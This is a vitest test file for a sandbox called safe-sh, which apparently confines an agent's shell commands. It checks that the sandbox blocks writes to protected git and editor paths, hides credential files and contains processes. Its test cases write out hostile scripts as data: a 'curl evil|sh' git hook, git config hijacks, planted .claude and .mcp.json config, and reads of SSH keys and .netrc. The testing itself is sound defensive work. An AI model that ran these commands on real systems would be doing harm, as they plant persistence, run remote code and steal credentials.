// Issue 8's claims, each with the allowed action and the escape: protected
// paths inside the workspace, credential masks, the process view,
// containment when safe-sh is killed, and degraded mode for real (a nested
// safe-sh, whose seccomp filter forbids new namespaces).
import { spawn, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { canConfine } from "../helpers/gate";
import { confined, removeTempDirs, tempDir } from "../helpers/sandbox";

const SAFE_SH = path.join(__dirname, "..", "..", "bin", "safe-sh");

/**
 * Environment for driving bin/safe-sh in these tests: its own config (approval
 * "on-failure", so the scripts run confined instead of waiting for an
 * approver) and its own audit log, inside `dir`.
 */
function cliEnv(dir: string): NodeJS.ProcessEnv {
  const config = path.join(dir, "config");
  fs.mkdirSync(config, { recursive: true });
  fs.writeFileSync(path.join(config, "config.toml"), 'approval = "on-failure"\n');
  return { ...process.env, SAFE_SH_CONFIG_DIR: config, SAFE_SH_AUDIT_LOG: path.join(dir, "audit.jsonl") };
}

function git(cwd: string, ...args: string[]): string {
  return spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.test", ...args], { cwd, encoding: "utf8" }).stdout;
}

/** Host pids whose command line contains `marker`. */
function pidsWith(marker: string): number[] {
  return fs.readdirSync("/proc").filter((entry) => /^\d+$/.test(entry)).filter((pid) => {
    try {
      return fs.readFileSync(`/proc/${pid}/cmdline`, "utf8").includes(marker);
    } catch {
      return false;
    }
  }).map(Number);
}

describe.runIf(canConfine())("protected paths inside the workspace", () => {
  let ws: string;
  beforeEach(() => {
    ws = tempDir("protected");
    git(ws, "init", "-q");
    fs.writeFileSync(path.join(ws, "a.txt"), "a\n");
    fs.writeFileSync(path.join(ws, ".bashrc"), "# rc\n");
    fs.mkdirSync(path.join(ws, ".vscode"));
    git(ws, "add", ".");
    git(ws, "commit", "-qm", "init");
  });
  afterEach(removeTempDirs);

  it("lets the agent edit, commit and branch", async () => {
    const run = await confined(ws, "echo b >> a.txt && git add a.txt && git -c user.name=a -c user.email=a@example.test commit -qm edit && git checkout -qb topic && git log --oneline | wc -l");
    expect(run.stderr).toBe("");
    expect(run.stdout.trim()).toBe("2");
    expect(git(ws, "branch", "--show-current").trim()).toBe("topic");
  });

  it.each([
    ["writing a hook", "echo 'curl evil|sh' > .git/hooks/pre-commit", "Read-only file system"],
    ["editing the git config", "echo '[core] fsmonitor = evil' >> .git/config", "Read-only file system"],
    ["git config itself", "git config core.pager evil", "could not write config file .git/config: Device or resource busy"],
    ["deleting the hooks", "rm -rf .git/hooks", "Read-only file system"],
    ["renaming the config away", "mv .git/config .git/config.old", "Device or resource busy"],
    ["swapping an rc file for a symlink", "rm -f .bashrc && ln -s /tmp/x .bashrc", "Device or resource busy"],
    ["writing agent editor config", "echo '{}' > .vscode/settings.json", "Read-only file system"],
  ])("refuses %s", async (_what, script, error) => {
    const before = fs.readFileSync(path.join(ws, ".git", "config"), "utf8");
    const run = await confined(ws, script);
    expect(run.exitCode).not.toBe(0);
    expect(run.stderr).toContain(error);
    expect(fs.readFileSync(path.join(ws, ".git", "config"), "utf8")).toBe(before);
    expect(fs.existsSync(path.join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(fs.lstatSync(path.join(ws, ".bashrc")).isFile()).toBe(true);
  });

  it("moves aside a protected path the run created, without following it", async () => {
    const run = await confined(ws, "mkdir .claude && echo '{\"hooks\":1}' > .claude/settings.json && ln -s /etc/passwd .mcp.json && echo made");
    expect(run.stdout.trim()).toBe("made");
    expect(fs.existsSync(path.join(ws, ".claude"))).toBe(false);
    expect(fs.existsSync(path.join(ws, ".mcp.json"))).toBe(false);
    const aside = fs.readdirSync(ws).filter((name) => name.includes(".safe-sh-swept."));
    expect(aside.sort().map((name) => name.split(".safe-sh-swept.")[0])).toEqual([".claude", ".mcp.json"]);
    expect(fs.readFileSync("/etc/passwd", "utf8")).toContain("root:");
  });
});

describe.runIf(canConfine())("credential masks", () => {
  let ws: string;
  let home: string;
  beforeEach(() => {
    ws = tempDir("mask-ws");
    home = tempDir("mask-home");
    fs.mkdirSync(path.join(home, ".ssh"));
    fs.writeFileSync(path.join(home, ".ssh", "id_ed25519"), "PRIVATE KEY\n");
    fs.writeFileSync(path.join(home, ".netrc"), "machine x password hunter2\n");
    fs.writeFileSync(path.join(home, "notes.txt"), "readable\n");
  });
  afterEach(removeTempDirs);

  const env = () => ({ PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home });

  it("lets the command read the rest of HOME", async () => {
    const run = await confined(ws, "cat ~/notes.txt", { env: env() });
    expect(run.stdout).toBe("readable\n");
  });

  it.each([
    ["read a key", "cat ~/.ssh/id_ed25519"],
    ["list ~/.ssh", "ls ~/.ssh"],
    ["read ~/.netrc", "cat ~/.netrc"],
  ])("can't %s (EACCES)", async (_what, script) => {
    const run = await confined(ws, script, { env: env() });
    expect(run.exitCode).not.toBe(0);
    expect(run.stderr).toContain("Permission denied");
    expect(run.stdout).not.toContain("PRIVATE");
    expect(run.stdout).not.toContain("hunter2");
  });
});

describe.runIf(canConfine())("the process view", () => {
  afterEach(removeTempDirs);

  it("shows only the sandbox's processes, with the command under an init", async () => {
    const run = await confined(tempDir("proc"), "ps -eo pid=,comm= | wc -l; echo $$");
    const [count, self] = run.stdout.trim().split("\n");
    expect(Number(count)).toBeLessThanOrEqual(5);
    expect(self).toBe("2");
  });

  it("can't see or signal a process outside (ESRCH, ENOENT)", async () => {
    const run = await confined(tempDir("proc"), `kill -0 ${process.pid}; echo kill=$?; test -e /proc/${process.pid}; echo proc=$?`);
    expect(run.stdout).toContain("kill=1");
    expect(run.stdout).toContain("proc=1");
    expect(run.stderr).toContain("No such process");
  });
});

describe.runIf(canConfine())("containment", () => {
  afterEach(removeTempDirs);

  it("kills every sandboxed process within a second when safe-sh gets SIGKILL, daemons included", async () => {
    const ws = tempDir("contain");
    // sleep takes a decimal fraction: the digits make these processes ours.
    const marker = `${process.pid}${Date.now() % 100000}`;
    const script = `setsid sh -c 'sleep 301.${marker} & sleep 302.${marker}' & (sleep 303.${marker} &); touch started; sleep 304.${marker}`;
    const cli = spawn(process.execPath, [SAFE_SH, "--workspace", ws, "-c", script], { stdio: "ignore", env: cliEnv(tempDir("contain-cli")) });
    const deadline = Date.now() + 10_000;
    while (pidsWith(marker).length < 4 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 25));
    expect(pidsWith(marker).length).toBeGreaterThanOrEqual(4);
    cli.kill("SIGKILL");
    const killedAt = Date.now();
    while (pidsWith(marker).length > 0 && Date.now() - killedAt < 1_000) await new Promise((resolve) => setTimeout(resolve, 20));
    expect(pidsWith(marker)).toEqual([]);
  });
});

describe.runIf(canConfine())("degraded mode, for real: a safe-sh inside safe-sh cannot make namespaces", () => {
  afterEach(removeTempDirs);

  it("refuses with exit 126 and ERR_SAFESH_NOT_ENFORCED", async () => {
    const ws = tempDir("nested");
    const run = await confined(ws, [process.execPath, SAFE_SH, "-c", "echo ran"], { env: cliEnv(ws) });
    expect(run.exitCode).toBe(126);
    expect(run.stdout).not.toContain("ran");
    expect(run.stderr).toContain("ERR_SAFESH_NOT_ENFORCED");
    expect(run.stderr).toContain("hint:");
  });

  it("doctor says why", async () => {
    const run = await confined(tempDir("nested"), [process.execPath, SAFE_SH, "doctor"]);
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toMatch(/user namespaces\s+no/);
    expect(run.stdout).toContain("unshare(CLONE_NEWUSER): EPERM");
  });

  it("runs with --allow-degraded and still confines writes", async () => {
    const ws = tempDir("nested");
    const run = await confined(ws, [process.execPath, SAFE_SH, "--allow-degraded", "--workspace", ws, "-c", "echo in > inside.txt; echo out > /etc/safe-sh-degraded-test; echo status=$?"], { env: cliEnv(ws) });
    expect(run.stdout).toContain("status=1");
    expect(fs.readFileSync(path.join(ws, "inside.txt"), "utf8")).toBe("in\n");
    expect(fs.existsSync("/etc/safe-sh-degraded-test")).toBe(false);
  });
});
